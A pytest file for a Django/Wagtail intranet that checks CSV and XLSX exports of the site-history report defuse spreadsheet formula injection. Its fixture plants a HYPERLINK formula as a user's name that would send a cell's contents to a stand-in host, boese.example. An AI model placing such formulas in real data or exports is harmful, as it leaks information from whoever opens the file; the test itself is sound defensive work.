"""Exports are safe to open in a spreadsheet: no CSV cell starts a formula (OWASP)."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.test import Client

from intranet.exports import spreadsheet_cell

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://boese.example/?d="&A1;"Details")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+49 711 216-0", "'+49 711 216-0"),
        ("-Meier", "'-Meier"),
        ("@SUMME(A1)", "'@SUMME(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("＝1+1", "'＝1+1"),
        ("Müller", "Müller"),
        ("", ""),
        (None, None),
        (42, 42),
    ],
)
def test_spreadsheet_cell(value, cell):
    assert spreadsheet_cell(value) == cell


@pytest.fixture
def admin_client(home_page):
    from wagtail.log_actions import log

    admin = get_user_model().objects.create_superuser("it-betrieb", password="x-geheim-1")
    # An editor whose name came from the HR import as typed.
    editor = get_user_model().objects.create_user("ab100", first_name=FORMULA, last_name="-Meier")
    log(instance=home_page, action="wagtail.edit", user=editor)
    client = Client()
    client.force_login(admin)
    return client


def test_site_history_csv_export_neutralises_formulas(admin_client):
    response = admin_client.get("/admin/reports/site-history/?export=csv")
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    cells = [cell for line in csv.reader(io.StringIO(body)) for cell in line]
    assert f"'{FORMULA} -Meier" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]


def test_site_history_xlsx_export_writes_formulas_as_text(admin_client):
    from openpyxl import load_workbook

    response = admin_client.get("/admin/reports/site-history/?export=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value]
    [name] = [cell for cell in cells if str(cell.value).startswith("=HYPERLINK")]
    assert name.data_type == "s"  # text, not a formula
